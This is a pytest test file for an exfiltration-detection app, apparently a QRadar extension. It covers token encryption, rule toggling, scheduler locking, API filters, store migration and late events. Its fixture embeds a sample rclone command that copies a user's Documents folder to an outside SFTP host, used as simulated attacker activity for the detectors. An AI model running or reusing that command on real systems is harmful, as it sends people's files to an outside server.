"""Paths of the Runtime a console runs that nothing else exercises: the encrypted token an administrator entered
(when QRadar injects none), switching rules off (`rules.enabled`), the scheduler's job set and its lock, the JSON
API's filters, a store written by an older version, and events that reach the console late."""
from __future__ import annotations

import dataclasses
import json
import os
import sqlite3
import threading

import pytest

from app import create_app
from app.config import AppConfig
from app.runtime import RULE_ENABLED_KEY, TOKEN_SECRET, Runtime
from app.scheduler import build_scheduler, scheduler_lock
from app.store import Store
from app.store.db import load_migrations
from devtools.appenv import app_environ
from devtools.simproc import wait_until

from .conftest import FAST, MINUTE

RCLONE = 'rclone.exe copy "C:\\Users\\jdoe\\Documents" :sftp:/upload --sftp-host 203.0.113.9 --sftp-pass Xp9'


def rclone_event(start_ms: int, i: int, source: str = "10.40.0.7") -> dict:
    return {"starttime": start_ms, "devicetype": 12, "logsourceid": 65, "qid": 5001, "category": 8110,
            "eventcount": 1, "EventID": "1", "Process Name": "rclone.exe", "CommandLine": RCLONE + f" --n {i}",
            "sourceip": source, "username": "CORP\\jdoe", "ProcessGuid": f"{{g-{start_ms}-{i}}}"}


def feed(sim, events) -> None:
    assert sim.admin("POST", "/sim/events", data="\n".join(json.dumps(e) for e in events))["added"] == len(events)


# -- the console token -----------------------------------------------------------------------------------------
def test_the_token_an_administrator_entered_is_used_encrypted_when_qradar_injects_none(sim, tmp_path):
    env = app_environ(sim, str(tmp_path / "app"))
    del env["SEC_ADMIN_TOKEN"]   # an app not yet authorized by QRadar
    start = 1_790_000_000_000
    feed(sim, [rclone_event(start + i, i) for i in range(3)])

    runtime = Runtime(AppConfig.from_env(env, **FAST), environ=env)
    try:
        refused = runtime.hunt("t1048-002-rclone", start, start + MINUTE)
        assert refused.status == "failed" and "no console token" in refused.errors[0]
        assert runtime.store.ledger.open_windows("t1048-002-rclone"), "nothing searched, everything owed"
        runtime.platform.encryption(*TOKEN_SECRET).encrypt(sim.token)   # what the admin page stores
        secret_files = [p for p in (tmp_path / "app").rglob("*") if p.is_file() and sim.token.encode() in p.read_bytes()]
        assert secret_files == [], "the token is encrypted at rest"
        assert runtime.runner.resume(runtime.rules["t1048-002-rclone"], "hunt").status == "ok"
        assert len(runtime.store.hits.identities()) == 3
        assert all(e["sec_present"] for e in sim.admin("GET", "/sim/requests"))
    finally:
        runtime.store.close()


# -- rules switched off, the scheduler's jobs and lock ---------------------------------------------------------------
def test_rules_enabled_setting_decides_the_scheduler_jobs_and_the_api(sim, make_runtime):
    runtime = make_runtime(sim)
    every = set(runtime.rules)
    jobs = {job.id: job for job in build_scheduler(runtime).get_jobs()}
    assert set(jobs) == {f"rule:{r}" for r in every} | {"enrichment-retry", "offenses"}
    for rule_id, rule in runtime.rules.items():
        assert jobs[f"rule:{rule_id}"].trigger.interval.total_seconds() == rule.schedule.interval_minutes * 60
    assert jobs["offenses"].trigger.interval.total_seconds() == 60
    assert jobs["enrichment-retry"].trigger.interval.total_seconds() == 300

    runtime.store.settings.set(RULE_ENABLED_KEY, {"t1048-002-seed": False, "t1048-002-rclone": False},
                               actor="admin", now_ms=1)
    assert {r.id for r in runtime.enabled_rules()} == every - {"t1048-002-seed", "t1048-002-rclone"}
    jobs = {job.id for job in build_scheduler(runtime).get_jobs()}
    assert "rule:t1048-002-seed" not in jobs and "rule:t1048-002-rclone" not in jobs and "rule:t1048-002-web-upload" in jobs
    shown = {r["id"]: r["enabled"] for r in create_app(runtime).test_client().get("/api/rules").get_json()}
    assert shown["t1048-002-seed"] is False and shown["t1048-002-web-upload"] is True


def test_a_second_scheduler_waits_for_the_lock_then_takes_it(tmp_path):
    path = str(tmp_path / "scheduler.lock")
    release, took = threading.Event(), threading.Event()

    def holder():
        with scheduler_lock(path):
            release.wait(60)

    def waiter():
        with scheduler_lock(path, wait=True):
            took.set()

    first = threading.Thread(target=holder)
    first.start()
    # The holder writes its pid once it has the lock.
    wait_until(lambda: os.path.exists(path) and open(path).read().strip() != "", timeout=10,
               message="the first scheduler to hold the lock")
    second = threading.Thread(target=waiter)
    second.start()
    second.join(timeout=0.5)
    assert second.is_alive() and not took.is_set(), "the second scheduler must wait while the first holds the lock"
    release.set()
    first.join(30)
    wait_until(took.is_set, timeout=30, message="the waiting scheduler to take the lock")
    second.join(30)


# -- the JSON API's filters ------------------------------------------------------------------------------------
@pytest.fixture
def hunted_api(sim, make_runtime):
    start = 1_790_000_000_000
    events = [rclone_event(start + i * 1000, i, source=f"10.40.0.{i % 3 + 1}") for i in range(9)]
    feed(sim, events)
    runtime = make_runtime(sim)
    runtime.exceptions.create({"name": "host 3", "conditions": [{"field": "source_ip", "value": "10.40.0.3"}],
                               "reason": "test", "author": "admin"}, actor="admin", now_ms=runtime.clock())
    assert runtime.hunt("t1048-002-rclone", start, start + MINUTE).status == "ok"
    assert runtime.hunt("t1048-002-seed", start, start + MINUTE).status == "ok"
    return runtime, create_app(runtime).test_client()


def test_api_filters_select_exactly_what_they_name(hunted_api):
    runtime, client = hunted_api
    every = runtime.store.hits.list(limit=1000, suppressed=None)
    get = lambda query: client.get("/api/hits" + query).get_json()   # noqa: E731
    assert len(get("?suppressed=all&limit=1000")) == len(every) and len(every) > 9
    live, hidden = get("?limit=1000"), get("?suppressed=true&limit=1000")
    assert hidden and all(h["source_ip"] == "10.40.0.3" for h in hidden)
    assert len(live) + len(hidden) == len(every) and all(not h["suppressed"] for h in live)
    rclone = get("?rule=t1048-002-rclone&suppressed=all&limit=1000")
    assert rclone and {h["rule_id"] for h in rclone} == {"t1048-002-rclone"}
    one_host = get("?source_ip=10.40.0.1&suppressed=all&limit=1000")
    assert one_host and {h["source_ip"] for h in one_host} == {"10.40.0.1"}
    pages = get("?suppressed=all&limit=4") + get("?suppressed=all&limit=4&offset=4") + get("?suppressed=all&limit=1000&offset=8")
    assert [h["id"] for h in pages] == [h["id"] for h in get("?suppressed=all&limit=1000")]
    for bad in ("?limit=0", "?limit=1001", "?limit=x", "?offset=-1"):
        answer = client.get("/api/hits" + bad)
        assert answer.status_code == 400 and answer.get_json()["error"], bad
    assert client.get("/api/hits/999999").status_code == 404
    first = every[0]["id"]
    assert client.get(f"/api/hits/{first}").get_json()["id"] == first
    windows = client.get("/api/windows?rule=t1048-002-rclone&status=done").get_json()
    assert windows and {(w["rule_id"], w["status"]) for w in windows} == {("t1048-002-rclone", "done")}
    assert client.get("/api/windows?status=failed").get_json() == []


# -- a store written by an older version -----------------------------------------------------------------------
def test_a_populated_store_of_an_older_version_is_migrated_with_everything_kept(sim, make_runtime, tmp_path):
    """Built in-test with the first three migrations (the store before offenses existed), holding the hits
    of a real hunt; opening it with this version adds the rest and keeps every hit, window and setting."""
    start = 1_790_000_000_000
    feed(sim, [rclone_event(start + i * 1000, i) for i in range(5)])
    current = make_runtime(sim, name="current")
    assert current.hunt("t1048-002-rclone", start, start + MINUTE).status == "ok"
    columns = [r[1] for r in current.store.db.connection().execute("PRAGMA table_info(hits)")]

    old_path = tmp_path / "old" / "exfilwatch.db"
    old_path.parent.mkdir()
    migrations = load_migrations()
    assert len(migrations) >= 4
    old = sqlite3.connect(old_path)
    for script in migrations[:3]:
        old.executescript(script)
    old.execute("PRAGMA user_version = 3")
    old_columns = [r[1] for r in old.execute("PRAGMA table_info(hits)")]
    kept = [c for c in columns if c in old_columns]
    src = current.store.db.connection()
    for table, names in (("windows", [r[1] for r in old.execute("PRAGMA table_info(windows)")]), ("hits", kept)):
        rows = src.execute(f"SELECT {', '.join(names)} FROM {table}").fetchall()
        old.executemany(f"INSERT INTO {table} ({', '.join(names)}) VALUES ({', '.join('?' * len(names))})",
                        [tuple(r) for r in rows])
    old.execute("INSERT INTO config (key, value_json, updated_ms, updated_by) VALUES (?, ?, 1, 'admin')",
                (RULE_ENABLED_KEY, json.dumps({"t1048-002-seed": False})))
    old.commit()
    old.close()

    upgraded = make_runtime(sim, name="upgraded", db_path=str(old_path))
    version = upgraded.store.db.connection().execute("PRAGMA user_version").fetchone()[0]
    assert version == len(migrations)
    assert upgraded.store.hits.identities() == current.store.hits.identities() and len(current.store.hits.identities()) == 5
    assert "t1048-002-seed" not in {r.id for r in upgraded.enabled_rules()}
    # The new parts work on the old rows: the offense dispatcher groups hits stored before offenses existed.
    upgraded.store.settings.set("offenses", {"host": "127.0.0.1", "port": sim.syslog_port, "protocol": "tcp"},
                                actor="test", now_ms=upgraded.clock())
    assert upgraded.offenses.dispatch().hits_grouped == 5


# -- events indexed late ---------------------------------------------------------------------------------------
def test_a_late_event_is_found_by_the_next_runs_overlap_and_nothing_twice(sim, make_runtime):
    rule_id = "t1048-002-rclone"
    now = {"ms": 1_790_000_000_000}
    runtime = make_runtime(sim, clock=lambda: now["ms"])
    rule = runtime.rules[rule_id]
    schedule = dataclasses.replace(rule.schedule, interval_minutes=5, max_window_minutes=5, overlap_minutes=3,
                                   ingestion_delay_minutes=1)
    runtime.rules = {rule_id: dataclasses.replace(rule, schedule=schedule)}
    horizon = now["ms"] - MINUTE
    runtime.store.ledger.set_checkpoint(rule_id, horizon - 5 * MINUTE, now["ms"])
    feed(sim, [rclone_event(horizon - 4 * MINUTE, 0), rclone_event(horizon - 2 * MINUTE, 1)])
    assert runtime.run_rule(rule_id).new_hits == 2

    # Indexed only now, with an event time inside the window already searched (2 minutes before its end).
    feed(sim, [rclone_event(horizon - 2 * MINUTE + 500, 2)])
    now["ms"] += 5 * MINUTE
    second = runtime.run_rule(rule_id)
    assert second.status == "ok" and second.new_hits == 1, "found by the overlap; the two earlier hits not again"
    windows = sorted(runtime.store.ledger.windows(rule_id), key=lambda w: w["start_ms"])
    assert windows[1]["start_ms"] == windows[0]["end_ms"] - 3 * MINUTE
    assert len(runtime.store.hits.identities()) == 3 == runtime.store.hits.counts()["hits"]
